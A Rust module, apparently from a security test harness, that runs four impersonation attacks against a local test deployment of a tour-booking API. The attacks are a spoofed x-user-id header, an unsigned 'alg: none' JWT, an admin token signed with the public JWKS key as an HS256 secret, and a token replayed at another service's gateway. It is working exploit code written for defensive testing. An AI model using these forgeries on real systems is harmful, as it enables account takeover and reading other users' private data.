//! Alice has an account like everybody, and wants to be somebody else.

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use serde_json::{Value, json};

use crate::{Failure, Ground, Loot, Message, Plan, Raid, Town, Visitor, forge};

const BOOKINGS: &str = "/api/bookings";

pub async fn attack(ground: Ground) -> Raid {
    let town = ground.town(Plan::default()).await?;
    let victim = Victim::with_a_booking(&town).await?;
    let alice = town.account("alice").await?;
    let mut taken = Vec::new();
    taken.extend(with_a_header(&ground, &alice, &victim).await?);
    taken.extend(with_no_signature(&ground, &alice, &victim).await?);
    taken.extend(with_the_public_key(&ground, &alice, &victim).await?);
    taken.extend(at_another_service(&ground).await?);
    let join = |language: fn(&Message) -> &String| {
        let all: Vec<&str> = taken.iter().map(|what| language(what).as_str()).collect();
        all.join(", ")
    };
    if taken.is_empty() {
        return Loot::nothing(
            "4 façons d'être quelqu'un d'autre essayées, aucune n'a marché",
            "4 ways to be somebody else tried, none worked",
        );
    }
    Loot::taken(
        format!(
            "{} façons sur 4 d'être quelqu'un d'autre : {}",
            taken.len(),
            join(|what| &what.fr)
        ),
        format!(
            "{} of 4 ways to be somebody else: {}",
            taken.len(),
            join(|what| &what.en)
        ),
    )
}

/// Bob, and the wish that only he and the guide should read.
struct Victim {
    id: String,
    wish: String,
}

impl Victim {
    async fn with_a_booking(town: &Town) -> Result<Self, Failure> {
        let bob = town.account("bob").await?;
        let id = bob
            .get("/auth/me")
            .await?
            .expect_status(200)?
            .field("/id")?;
        let tours = bob.get("/api/tours?limit=1").await?.expect_status(200)?;
        let wish = "une demande en mariage au coucher du soleil".to_owned();
        let booking = json!({
            "tourId": tours.field("/items/0/id")?, "numberOfParticipants": 2,
            "bookingDate": town.day(30).await?, "specialRequests": wish,
        });
        bob.post(BOOKINGS, &booking).await?.expect_status(201)?;
        Ok(Self { id, wish })
    }

    async fn is_read_by(&self, intruder: &Visitor) -> Result<bool, Failure> {
        let answer = intruder.get(BOOKINGS).await?;
        Ok(answer.status == 200 && answer.text().contains(&self.wish))
    }
}

async fn with_a_header(
    ground: &Ground,
    alice: &Visitor,
    victim: &Victim,
) -> Result<Option<Message>, Failure> {
    ground.say(
        "Alice, avec son propre jeton, ajoute l'en-tête x-user-id de Bob et demande « ses » réservations.",
        "Alice, with her own token, adds Bob's x-user-id and asks for \"her\" bookings.",
    );
    let spoofer = alice.with_header("x-user-id", &victim.id);
    let read = victim.is_read_by(&spoofer).await?;
    Ok(read.then(|| {
        Message::new(
            "les réservations de Bob lues avec un en-tête",
            "Bob's bookings read with a header",
        )
    }))
}

async fn with_no_signature(
    ground: &Ground,
    alice: &Visitor,
    victim: &Victim,
) -> Result<Option<Message>, Failure> {
    ground.say(
        "Le jeton d'Alice, où elle écrit l'identifiant de Bob et « alg: none » : plus besoin de signature.",
        "Alice's token, in which she writes Bob's id and alg: none: no signature is needed any more.",
    );
    let (mut header, claims) = as_the_victim(alice, victim);
    header["alg"] = "none".into();
    let forged = alice.with_token(&forge::unsigned(&header, &claims));
    let read = victim.is_read_by(&forged).await?;
    Ok(read.then(|| {
        Message::new(
            "un jeton sans signature accepté",
            "a token without a signature taken",
        )
    }))
}

async fn with_the_public_key(
    ground: &Ground,
    alice: &Visitor,
    victim: &Victim,
) -> Result<Option<Message>, Failure> {
    ground.say(
        "La clé publique est publique : lue dans /.well-known/jwks.json, elle sert de secret HS256.",
        "The public key is public: read from /.well-known/jwks.json, it serves as an HS256 secret.",
    );
    let (mut header, mut claims) = as_the_victim(alice, victim);
    header["alg"] = "HS256".into();
    claims["roles"] = json!(["admin"]);
    let keys = alice.without_token().get("/.well-known/jwks.json").await?;
    let keys = keys.expect_status(200)?.json();
    let keys = keys["keys"].as_array().cloned().unwrap_or_default();
    let key = keys.iter().find(|key| key["kid"] == header["kid"]);
    let secret = key.map(point).unwrap_or_default();
    let forged = alice.with_token(&forge::hs256(&header, &claims, &secret));
    let read = victim.is_read_by(&forged).await?;
    Ok(read.then(|| {
        Message::new(
            "un jeton d'administrateur signé avec la clé publique accepté",
            "an administrator's token, signed with the public key, taken",
        )
    }))
}

/// A key of P-256 as it is handed around: 4, x, y.
fn point(key: &Value) -> Vec<u8> {
    let coordinate = |name: &str| {
        let text = key[name].as_str().unwrap_or_default();
        URL_SAFE_NO_PAD.decode(text).unwrap_or_default()
    };
    [vec![4], coordinate("x"), coordinate("y")].concat()
}

fn as_the_victim(alice: &Visitor, victim: &Victim) -> (Value, Value) {
    let (header, mut claims) = forge::parts(alice.token());
    claims["sub"] = victim.id.as_str().into();
    (header, claims)
}

/// The same issuer signs for several services; this gateway is the one of another.
async fn at_another_service(ground: &Ground) -> Result<Option<Message>, Failure> {
    ground.say(
        "Le jeton d'Alice a été fait pour escale-api ; elle le présente à la passerelle du service de paie.",
        "Alice's token was made for escale-api; she shows it to the gateway of the payroll service.",
    );
    let plan = Plan::default().set("gateway", "TOKEN_AUDIENCE", "escale-paie");
    let payroll = ground.town(plan).await?;
    let alice = payroll.account("alice").await?;
    let opened = alice.get("/api/tours").await?.status == 200;
    Ok(opened.then(|| {
        Message::new(
            "un jeton destiné à un autre service accepté",
            "a token for another service taken",
        )
    }))
}
